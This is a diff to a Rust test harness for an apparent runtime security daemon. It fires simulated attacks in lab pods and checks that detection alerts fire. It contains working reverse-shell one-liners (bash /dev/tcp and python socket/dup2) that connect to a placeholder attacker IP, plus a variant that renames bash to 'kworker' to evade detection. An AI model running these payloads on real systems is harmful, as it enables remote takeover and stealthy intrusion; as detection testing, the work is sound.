@@ -108,20 +108,57 @@ impl Ctx<'_> {
     }
 
     /// Runs a shell in `pod` whose stdio is a TCP connection to a listener in the attacker pod
-    /// (`port`), started with `args` (`{ip}`/`{port}` replaced); the listener sends a command
-    /// and reports what came back.
-    fn reverse_shell(&self, pod: &str, port: u16, args: &[&str]) -> Ran {
+    /// (`port`), started with `args` (`{ip}`/`{port}` replaced). The session stays open until
+    /// the daemon has judged it (the daemon reads a process's standard streams from /proc, so
+    /// a shell gone before that would show nothing -- real sessions last), then the attacker
+    /// types a command; a quarantine cuts the session off, so the shell is killed afterwards.
+    fn reverse_shell(&self, pod: &str, port: u16, args: &[&str], check: fn(&Value) -> bool) -> Ran {
         let listener = listen_in_pod(self.daemon, &Ctx::key(ATTACKER), &format!("{ATTACKER_IP}:{port}"));
-        let catcher = std::thread::spawn(move || catch_shell(listener));
         let args: Vec<String> =
             args.iter().map(|a| a.replace("{ip}", ATTACKER_IP).replace("{port}", &port.to_string())).collect();
-        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
-        let mut command = self.daemon.command_in(&Ctx::key(pod), refs[0]);
-        command.args(&refs[1..]);
-        let out = run_with_timeout(command, Duration::from_secs(15));
-        let transcript = catcher.join().unwrap_or_else(|_| "listener panicked".into());
-        Ran::Ok(format!("{}; listener got {:?}", summary(&out), transcript.trim()))
+        let mut command = self.daemon.command_in(&Ctx::key(pod), &args[0]);
+        command.args(&args[1..]);
+        let shell = spawn_logged(command, &self.daemon.work.join(format!("{pod}.log")));
+        let Some(mut stream) = accept_within(&listener, Duration::from_secs(10)) else {
+            return Ran::Ok(format!("no connection reached the listener; shell said {:?}", shell.output().trim()));
+        };
+        let judged = self
+            .daemon
+            .wait_for_alert(|a| is_alert_for(a, "reverse_shell", pod) && check(a), Duration::from_secs(15))
+            .is_some();
+        let answer = converse(&mut stream);
+        drop(shell);
+        Ran::Ok(format!("alert while the session was open: {judged}; after it the attacker's command got {answer}"))
     }
+}
+
+fn is_alert_for(a: &Value, rule: &str, pod: &str) -> bool {
+    a["kind"] == "rule" && a["rule"]["id"] == rule && a["pod"]["namespace"] == NS && a["pod"]["name"] == pod
+}
+
+fn accept_within(listener: &TcpListener, timeout: Duration) -> Option<std::net::TcpStream> {
+    listener.set_nonblocking(true).ok();
+    let deadline = Instant::now() + timeout;
+    loop {
+        match listener.accept() {
+            Ok((s, _)) => {
+                s.set_nonblocking(false).ok();
+                return Some(s);
+            }
+            Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(20)),
+            Err(_) => return None,
+        }
+    }
+}
+
+/// Sends a command down the shell's socket and reads the answer (2 s at most).
+fn converse(stream: &mut std::net::TcpStream) -> String {
+    stream.set_read_timeout(Some(Duration::from_secs(2))).ok();
+    let _ = stream.write_all(b"echo palisade-$((6*7)); exit\n");
+    let mut buf = Vec::new();
+    let _ = stream.read_to_end(&mut buf);
+    let text = String::from_utf8_lossy(&buf).to_string();
+    if text.contains("palisade-42") { "an answer".into() } else { format!("no answer ({} bytes; cut off by a quarantine?)", buf.len()) }
 }
 
 fn summary(out: &std::process::Output) -> String {
@@ -149,28 +186,13 @@ fn listen_in_pod(daemon: &DaemonGuard, pod: &str, addr: &str) -> TcpListener {
     .expect("listener thread")
 }
 
-/// Accepts one connection (10 s), sends a command, reads the answer (5 s).
-fn catch_shell(listener: TcpListener) -> String {
-    listener.set_nonblocking(true).ok();
-    let deadline = Instant::now() + Duration::from_secs(10);
-    let mut stream = loop {
-        match listener.accept() {
-            Ok((s, _)) => break s,
-            Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(20)),
-            Err(_) => return "no connection".into(),
-        }
-    };
-    stream.set_nonblocking(false).ok();
-    stream.set_read_timeout(Some(Duration::from_secs(5))).ok();
-    let _ = stream.write_all(b"echo palisade-$((6*7)); exit\n");
-    let mut buf = Vec::new();
-    let _ = stream.read_to_end(&mut buf);
-    let text = String::from_utf8_lossy(&buf).to_string();
-    if text.contains("palisade-42") { "the shell answered".into() } else { format!("no answer ({} bytes)", buf.len()) }
-}
-
 fn any(_: &Value) -> bool {
     true
+}
+
+/// The alert is for the exec of the renamed shell itself (not the launcher's dup2).
+fn renamed_shell_exec(a: &Value) -> bool {
+    a["event"]["type"] == "exec" && a["event"]["exec"]["filename"].as_str().is_some_and(|f| f.ends_with("/kworker"))
 }
 
 /// Every behaviour, each in as many real forms as this machine allows.
@@ -284,12 +306,12 @@ fn variants() -> Vec<Variant> {
         })),
         // 11
         v("11 reverse shell", "revshell-bash", "reverse_shell", "bash -i on /dev/tcp to the attacker pod", Box::new(|c, pod| {
-            c.reverse_shell(pod, 9001, &["bash", "-c", "exec 3<>/dev/tcp/{ip}/{port}; exec bash --norc --noprofile -i <&3 >&3 2>&3"])
+            c.reverse_shell(pod, 9001, &["bash", "-c", "exec 3<>/dev/tcp/{ip}/{port}; exec bash --norc --noprofile -i <&3 >&3 2>&3"], any)
         })),
         v("11 reverse shell", "revshell-python", "reverse_shell", "python3 socket + dup2 + sh", Box::new(|c, pod| {
             let Some(py) = c.python.clone() else { return Ran::Skipped("no python3".into()) };
             let code = "import socket, os; s = socket.create_connection(('{ip}', {port})); [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv('/bin/sh', ['sh'])";
-            c.reverse_shell(pod, 9002, &[&py.to_string_lossy(), "-c", code])
+            c.reverse_shell(pod, 9002, &[&py.to_string_lossy(), "-c", code], any)
         })),
         Variant {
             behaviour: "11 reverse shell",
@@ -299,11 +321,11 @@ fn variants() -> Vec<Variant> {
             run: Box::new(|c, pod| match c.renamed("bash", "kworker") {
                 Some(bin) => {
                     let script = format!("exec 3<>/dev/tcp/{{ip}}/{{port}}; exec {} --norc --noprofile <&3 >&3 2>&3", bin.display());
-                    c.reverse_shell(pod, 9003, &["bash", "-c", &script])
+                    c.reverse_shell(pod, 9003, &["bash", "-c", &script], renamed_shell_exec)
                 }
                 None => Ran::Skipped("no bash to copy".into()),
             }),
-            check: |a| a["event"]["type"] == "exec" && a["event"]["exec"]["filename"].as_str().is_some_and(|f| f.ends_with("/kworker")),
+            check: renamed_shell_exec,
         },
         // 12
         v("12 crypto mining", "mining-stratum", "crypto_mining", "a renamed program with stratum+tcp:// arguments", Box::new(|c, pod| {
@@ -389,7 +411,7 @@ fn run_attacks(daemon: &DaemonGuard, variants: &[Variant]) -> Vec<Outcome> {
         }
         let left = deadline.saturating_duration_since(Instant::now());
         let hit = daemon.wait_for_alert(
-            |a| a["kind"] == "rule" && a["rule"]["id"] == v.rule && a["pod"]["namespace"] == NS && a["pod"]["name"] == v.pod && (v.check)(a),
+            |a| is_alert_for(a, v.rule, v.pod) && (v.check)(a),
             left,
         );
         outcome.found = Some(hit.is_some());
@@ -580,28 +602,92 @@ fn record_mix() {
     let outcomes = run_attacks(&daemon, &variants);
     std::thread::sleep(Duration::from_secs(2));
     let record = std::fs::read_to_string(daemon.record_path.as_ref().expect("record")).expect("record");
-    let node = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default().trim().to_string();
-    let work = daemon.work.display().to_string();
+    let sanitize = Sanitizer {
+        node: std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default().trim().to_string(),
+        replacements: vec![
+            (daemon.work.display().to_string(), "/srv/scenario".to_string()),
+            (PALISADE.to_string(), "/usr/local/bin/palisade".to_string()),
+            (format!("/tmp/palisade-{}", daemon.lab_name), "/tmp/palisade-payload".to_string()),
+            (format!("/etc/palisade-{}", daemon.lab_name), "/etc/palisade-test".to_string()),
+            (daemon.lab_name.clone(), "lab".to_string()),
+            (std::env::current_exe().expect("test binary").display().to_string(), Sanitizer::SHIM_EXE.to_string()),
+            (env!("CARGO_MANIFEST_DIR").to_string(), "/srv/app".to_string()),
+            (support::daemon::repo_root().canonicalize().expect("repo root").display().to_string(), "/srv/palisade".to_string()),
+        ],
+        harness_exe: std::env::current_exe().expect("test binary").display().to_string(),
+        harness_comm: std::thread::current().name().unwrap_or("record_mix").chars().take(15).collect(),
+    };
     let mut out = String::new();
     let mut lines = 0;
     for line in record.lines() {
-        let mut line = line.replace(&work, "/srv/scenario").replace(PALISADE, "/usr/local/bin/palisade");
-        line = line.replace(&format!("/tmp/palisade-{}", daemon.lab_name), "/tmp/palisade-payload");
-        line = line.replace(&format!("/etc/palisade-{}", daemon.lab_name), "/etc/palisade-test");
-        line = line.replace(&daemon.lab_name, "lab");
-        if !node.is_empty() {
-            line = line.replace(&format!("\"node\":\"{node}\""), "\"node\":\"node-1\"");
-        }
         // Keep only well-formed events.
-        if serde_json::from_str::<Value>(&line).is_ok() {
-            out.push_str(&line);
-            out.push('\n');
-            lines += 1;
-        }
+        let Ok(mut event) = serde_json::from_str::<Value>(line) else { continue };
+        sanitize.event(&mut event);
+        out.push_str(&event.to_string());
+        out.push('\n');
+        lines += 1;
     }
     let dest = support::daemon::repo_root().join("testdata/scenarios/recorded-mix.jsonl");
     std::fs::create_dir_all(dest.parent().expect("parent")).expect("testdata/scenarios");
     std::fs::write(&dest, out).expect("write recording");
     let ok = outcomes.iter().filter(|o| o.found == Some(true)).count();
+    println!("{}", report(&outcomes, &daemon.rule_alerts()));
     println!("recorded {lines} events to {} ({ok}/{} attack variants alerted)", dest.display(), outcomes.len());
+}
+
+/// Makes a recording shareable: no host names, test paths or the test harness's own ancestry.
+/// Processes started by the harness look like a container runtime's children.
+struct Sanitizer {
+    node: String,
+    replacements: Vec<(String, String)>,
+    harness_exe: String,
+    /// The name a forked child carries until it execs (the test thread's).
+    harness_comm: String,
+}
+
+impl Sanitizer {
+    const SHIM_COMM: &'static str = "containerd-shim";
+    const SHIM_EXE: &'static str = "/usr/bin/containerd-shim-runc-v2";
+
+    fn event(&self, event: &mut Value) {
+        self.strings(event);
+        if !self.node.is_empty() && event["node"] == self.node.as_str() {
+            event["node"] = "node-1".into();
+        }
+        let process = &mut event["process"];
+        if process["exe"] == self.harness_exe.as_str() || process["exe"] == Self::SHIM_EXE {
+            process["exe"] = Self::SHIM_EXE.into();
+            process["comm"] = Self::SHIM_COMM.into();
+            process["cmdline"] = Value::Array(vec![Self::SHIM_EXE.into()]);
+        }
+        if process["cmdline"][0] == Self::SHIM_EXE {
+            process["cmdline"] = Value::Array(vec![Self::SHIM_EXE.into()]);
+        }
+        if process["comm"] == self.harness_comm.as_str() {
+            process["comm"] = "runc:[2:INIT]".into();
+        }
+        if let Some(ancestors) = process["ancestors"].as_array_mut() {
+            // Everything above the harness is the developer's machine, not the pod.
+            if let Some(i) = ancestors.iter().position(|a| a["exe"] == self.harness_exe.as_str() || a["exe"] == Self::SHIM_EXE) {
+                ancestors.truncate(i + 1);
+                ancestors[i]["comm"] = Self::SHIM_COMM.into();
+                ancestors[i]["exe"] = Self::SHIM_EXE.into();
+            }
+        }
+    }
+
+    fn strings(&self, value: &mut Value) {
+        match value {
+            Value::String(s) => {
+                for (from, to) in &self.replacements {
+                    if s.contains(from.as_str()) {
+                        *s = s.replace(from.as_str(), to);
+                    }
+                }
+            }
+            Value::Array(items) => items.iter_mut().for_each(|v| self.strings(v)),
+            Value::Object(map) => map.values_mut().for_each(|v| self.strings(v)),
+            _ => {}
+        }
+    }
 }
